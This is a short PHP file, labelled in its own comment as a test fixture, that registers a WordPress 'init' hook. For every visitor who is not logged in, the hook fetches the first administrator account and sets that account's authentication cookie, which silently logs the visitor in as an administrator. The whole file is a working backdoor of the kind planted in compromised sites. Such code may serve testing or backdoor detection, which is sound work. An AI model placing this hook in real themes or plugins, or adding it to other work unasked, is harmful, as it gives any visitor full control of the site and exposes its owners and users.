<?php
// test fixture: a theme hook that gives any visitor the auth cookie of an administrator
add_action('init', function () {
    if (is_user_logged_in()) {
        return;
    }
    $admins = get_users(['role__in' => ['administrator'], 'fields' => 'ID']);
    if ($admins) {
        $who = $admins[0];
        wp_set_auth_cookie($who, true);
    }
});
